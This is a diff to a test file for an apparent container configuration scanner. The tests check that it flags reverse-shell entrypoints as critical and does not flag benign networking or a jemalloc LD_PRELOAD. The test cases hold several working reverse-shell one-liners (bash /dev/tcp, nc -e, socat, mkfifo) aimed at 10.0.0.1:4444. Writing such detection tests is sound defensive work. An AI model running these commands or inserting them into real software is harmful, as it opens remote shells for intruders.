@@ -59,6 +59,8 @@ def base64_run(tmp):
 def reverse_shells(tmp):
     cases = ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
              'nc -e /bin/sh 10.0.0.1 4444',
+             '0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196',
+             'sh -i >& /dev/udp/10.0.0.1/4444 0>&1',
              'ncat 10.0.0.1 4444 --sh-exec /bin/sh',
              'socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr',
              'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
@@ -68,7 +70,9 @@ def reverse_shells(tmp):
         got = only(f, 'config.reverse_shell')
         eq(len(got), 1, c + ' -> ' + str(rules(f)))
         eq(got[0]['severity'], 'CRITICAL')
-    for c in ['nc -z db 5432', 'socat TCP-LISTEN:8080,fork TCP:app:80', 'nginx -g "daemon off;"']:
+    for c in ['nc -z db 5432', 'socat TCP-LISTEN:8080,fork TCP:app:80', 'nginx -g "daemon off;"',
+              '</dev/tcp/localhost/8080', 'exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3',
+              'timeout 1 bash -c "cat < /dev/null > /dev/tcp/db/5432"']:
         f = scan_config(tmp, cfg(Entrypoint=['/bin/sh', '-c', c]))
         eq(only(f, 'config.reverse_shell'), [], c)
 
@@ -119,6 +123,8 @@ def ld_preload(tmp):
     eq(len(only(f, 'config.ld_so_preload_write')), 1, str(f))
     got = only(f, 'config.ld_so_preload')
     eq([(x['path'], x['source'], x['layer_index']) for x in got], [('etc/ld.so.preload', 'file', 0)])
+    f = scan_config(tmp, cfg(Env=['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2']))
+    eq([x['severity'] for x in only(f, 'config.ld_preload')], ['LOW'])
     f = scan_config(tmp, cfg(Env=['PATH=/usr/bin', 'LD_LIBRARY_PATH=/opt/lib']),
                     files={'etc/ld.so.conf': b'include /etc/ld.so.conf.d/*.conf\n'})
     eq(rules(f), [], str(f))
